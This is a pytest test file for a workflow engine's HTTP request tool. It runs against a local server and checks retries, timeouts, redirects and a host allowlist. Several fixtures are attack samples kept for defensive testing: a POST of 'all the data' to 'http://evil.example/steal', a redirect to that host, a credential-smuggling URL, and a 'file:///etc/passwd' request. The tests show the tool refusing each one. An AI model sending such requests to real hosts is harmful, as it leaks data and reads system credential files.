"""``http.request`` against a real HTTP server on 127.0.0.1."""

from __future__ import annotations

import json
import re
import threading
import time
from collections.abc import Iterator
from dataclasses import dataclass, field
from email.utils import formatdate
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest
from support.workspaces import write_workspace

from soloist.errors import DeterministicError, TransientError
from soloist.execution.context import ToolCall
from soloist.execution.tools.base import Tool
from soloist.execution.tools.builtins import builtin_registry
from soloist.execution.tools.http import http_request_tool
from soloist.workspace import Workspace

CALL = ToolCall("run-1", "step-1", "run-1/step-1/0", "/tmp")


@dataclass
class Seen:
    method: str
    path: str
    headers: dict[str, str]
    body: bytes


@dataclass
class Server:
    base: str
    port: int
    seen: list[Seen] = field(default_factory=list)


class Handler(BaseHTTPRequestHandler):
    server: Any

    def log_message(self, format: str, *args: Any) -> None:
        pass  # keep the test output clean

    def _answer(self) -> None:
        length = int(self.headers.get("content-length") or 0)
        body = self.rfile.read(length) if length else b""
        self.server.seen.append(Seen(self.command, self.path, dict(self.headers.items()), body))
        path = urlsplit(self.path).path
        if path == "/ok":
            self._send(200, {"hello": "world", "query": urlsplit(self.path).query})
        elif path == "/echo":
            self._send(201, {"method": self.command, "body": body.decode(),
                             "key": self.headers.get("idempotency-key")})
        elif path == "/busy":
            self._send(429, {"error": "slow down"}, {"Retry-After": "7"})
        elif path == "/busy-date":
            later = formatdate(time.time() + 120, usegmt=True)
            self._send(503, {"error": "maintenance"}, {"Retry-After": later})
        elif path == "/boom":
            self._send(500, {"error": "boom"})
        elif path == "/missing":
            self._send(404, {"error": "no such thing"})
        elif path == "/slow":
            time.sleep(1.0)
            self._send(200, {"late": True})
        elif path == "/hop":
            self._send(302, None, {"Location": "/ok?hopped=1"})
        elif path == "/away":
            self._send(302, None, {"Location": "http://evil.example/steal"})
        elif path == "/loop":
            self._send(302, None, {"Location": "/loop"})
        elif path == "/text":
            self._send(200, None, {"Content-Type": "text/plain"}, b"plain words")
        else:
            self._send(400, {"error": "bad path"})

    def _send(self, status: int, payload: Any, headers: dict[str, str] | None = None,
              raw: bytes | None = None) -> None:
        data = raw if raw is not None else (
            json.dumps(payload).encode() if payload is not None else b"")
        self.send_response(status)
        if raw is None and payload is not None:
            self.send_header("Content-Type", "application/json")
        for key, value in (headers or {}).items():
            self.send_header(key, value)
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        if self.command != "HEAD":
            self.wfile.write(data)

    do_GET = do_POST = do_PUT = do_DELETE = do_HEAD = do_PATCH = _answer


class Quiet(ThreadingHTTPServer):
    daemon_threads = True

    def handle_error(self, request: Any, client_address: Any) -> None:
        pass  # a client that timed out leaves a broken pipe behind


@pytest.fixture
def server() -> Iterator[Server]:
    httpd = Quiet(("127.0.0.1", 0), Handler)
    port = httpd.server_address[1]
    state = Server(f"http://127.0.0.1:{port}", int(port))
    httpd.seen = state.seen  # type: ignore[attr-defined]
    thread = threading.Thread(target=httpd.serve_forever, kwargs={"poll_interval": 0.05},
                              daemon=True)
    thread.start()
    try:
        yield state
    finally:
        httpd.shutdown()
        httpd.server_close()
        thread.join(5)


def http(*hosts: str) -> Tool:
    return http_request_tool(hosts, trust_env=False)


def test_get_from_an_allowed_host(server: Server) -> None:
    spec = builtin_registry(allowed_hosts=["127.0.0.1"]).get("http.request")
    args = {"url": f"{server.base}/ok", "params": {"q": "x y", "n": 2}}
    assert spec.effect_for(args) == "read"
    result = spec.invoke(args, CALL)
    assert result["status"] == 200
    assert result["json"] == {"hello": "world", "query": "q=x+y&n=2"}
    assert result["url"] == f"{server.base}/ok?q=x+y&n=2" and result["truncated"] is False
    assert result["headers"]["content-type"] == "application/json"
    [seen] = server.seen
    assert seen.method == "GET" and "Idempotency-Key" not in seen.headers  # reads carry none


def test_host_with_port_and_text_responses(server: Server) -> None:
    spec = http(f"127.0.0.1:{server.port}")
    result = spec.invoke({"url": f"{server.base}/text"}, CALL)
    assert (result["text"], result["json"]) == ("plain words", None)
    head = spec.invoke({"url": f"{server.base}/ok", "method": "head"}, CALL)
    assert head["status"] == 200 and head["text"] == ""
    with pytest.raises(DeterministicError, match=re.escape("may not reach host '127.0.0.1'")):
        http("127.0.0.1:1").invoke({"url": f"{server.base}/ok"}, CALL)


def test_post_is_a_write_sent_with_the_idempotency_key(server: Server) -> None:
    spec = http("127.0.0.1")
    args = {"url": f"{server.base}/echo", "method": "POST", "json": {"amount": 5}}
    assert spec.effect_for(args) == "write"
    result = spec.invoke(args, CALL)
    assert result["status"] == 201
    assert result["json"] == {"method": "POST", "body": '{"amount":5}', "key": "run-1/step-1/0"}
    put = spec.invoke({"url": f"{server.base}/echo", "method": "PUT", "body": "raw",
                       "headers": {"Idempotency-Key": "mine"}}, CALL)
    assert put["json"] == {"method": "PUT", "body": "raw", "key": "mine"}
    with pytest.raises(DeterministicError, match="json or body, not both"):
        spec.invoke({"url": f"{server.base}/echo", "method": "POST", "json": {}, "body": "x"},
                    CALL)


def test_429_with_retry_after_is_transient(server: Server) -> None:
    with pytest.raises(TransientError) as caught:
        http("127.0.0.1").invoke({"url": f"{server.base}/busy"}, CALL)
    assert caught.value.retry_after == 7.0
    assert "answered 429 Too Many Requests" in caught.value.message


def test_retry_after_as_an_http_date(server: Server) -> None:
    with pytest.raises(TransientError) as caught:
        http("127.0.0.1").invoke({"url": f"{server.base}/busy-date"}, CALL)
    assert caught.value.retry_after is not None and 100 < caught.value.retry_after <= 120


def test_500_is_transient(server: Server) -> None:
    with pytest.raises(TransientError, match="answered 500") as caught:
        http("127.0.0.1").invoke({"url": f"{server.base}/boom", "method": "DELETE"}, CALL)
    assert caught.value.retry_after is None


def test_404_is_deterministic_and_quotes_the_body(server: Server) -> None:
    with pytest.raises(DeterministicError) as caught:
        http("127.0.0.1").invoke({"url": f"{server.base}/missing?token=secret"}, CALL)
    assert caught.value.message == (
        f'http.request GET {server.base}/missing answered 404 Not Found: '
        '{"error": "no such thing"}.')


def test_timeout_is_transient(server: Server) -> None:
    with pytest.raises(TransientError, match=re.escape("timed out after 0.2 s")):
        http("127.0.0.1").invoke({"url": f"{server.base}/slow", "timeout": 0.2}, CALL)


def test_connection_refused_is_transient(server: Server) -> None:
    with pytest.raises(TransientError, match="failed"):
        http("127.0.0.1").invoke({"url": "http://127.0.0.1:1/ok"}, CALL)


def test_a_host_not_allowed_is_refused_and_nothing_is_sent(server: Server) -> None:
    for spec in (http(), http("example.com", "*.example.org"), builtin_registry().get(
            "http.request")):
        with pytest.raises(DeterministicError, match=re.escape("may not reach host '127.0.0.1'")):
            spec.invoke({"url": f"{server.base}/echo", "method": "POST", "json": {}}, CALL)
    # Credentials in the URL do not fool the check: the host here is evil.example.
    with pytest.raises(DeterministicError, match=re.escape("may not reach host 'evil.example'")):
        http("127.0.0.1").invoke({"url": f"http://127.0.0.1:{server.port}@evil.example/"}, CALL)
    assert server.seen == []


def test_redirects_are_followed_only_to_allowed_hosts(server: Server) -> None:
    spec = http("127.0.0.1")
    hopped = spec.invoke({"url": f"{server.base}/hop"}, CALL)
    assert hopped["json"]["query"] == "hopped=1"
    with pytest.raises(DeterministicError, match=re.escape("may not reach host 'evil.example'")):
        spec.invoke({"url": f"{server.base}/away"}, CALL)
    with pytest.raises(DeterministicError, match="redirected more than 5 times"):
        spec.invoke({"url": f"{server.base}/loop"}, CALL)
    assert [s.path for s in server.seen].count("/loop") == 6


def test_bad_urls_and_arguments_are_deterministic(server: Server) -> None:
    spec = http("*")
    with pytest.raises(DeterministicError, match="only speaks http and https"):
        spec.invoke({"url": "ftp://127.0.0.1/file"}, CALL)
    with pytest.raises(DeterministicError, match="absolute URL"):
        spec.invoke({"url": "/relative"}, CALL)
    with pytest.raises(DeterministicError, match="invalid argument 'method'"):
        spec.invoke({"url": f"{server.base}/ok", "method": "BREW"}, CALL)
    with pytest.raises(DeterministicError, match="invalid argument 'timeout'"):
        spec.invoke({"url": f"{server.base}/ok", "timeout": 0}, CALL)
    assert server.seen == []


def test_a_host_not_allowed_is_refused_when_the_call_is_admitted() -> None:
    tool = http_request_tool(["127.0.0.1:8080"])
    tool.admit({"url": "http://127.0.0.1:8080/ok", "method": "POST"}, "/nowhere")
    with pytest.raises(DeterministicError, match=re.escape("may not reach host 'evil.example'")):
        tool.admit({"url": "http://evil.example/steal", "method": "POST"}, "/nowhere")
    with pytest.raises(DeterministicError, match="only speaks http and https"):
        tool.admit({"url": "ftp://127.0.0.1:8080/x"}, "/nowhere")
    with pytest.raises(DeterministicError, match="needs an absolute URL with a host"):
        tool.admit({"url": "file:///etc/passwd"}, "/nowhere")


STAGES_A_POST = """
def post(ctx):
    ctx.stage("http.request", {"url": "http://evil.example/steal", "method": "POST",
                               "json": {"all": "the data"}})
    return {}
"""


def test_a_write_to_a_host_not_allowed_fails_when_staged_not_after_the_gate(
        tmp_path: Path, db_url: str) -> None:
    """The step fails at once, with nothing staged: no person is asked to approve a
    request that could never be sent."""
    playbook = """
name: exfiltrate
steps:
  - {id: send, python: "tasks:post", gate: {message: "Send it?"}}
"""
    root = write_workspace(tmp_path / "ws", {"exfiltrate": playbook}, STAGES_A_POST)
    with Workspace(root, database_url=db_url) as ws:
        ws.deploy()
        run_id = ws.start("exfiltrate")
        ws.worker().run(until_idle=True)
        run = ws.get_run(run_id)
        assert run.state == "failed", run
        assert "may not reach host 'evil.example'" in (run.error or "")
        assert ws.show(run_id).intents == [] and ws.approvals() == []
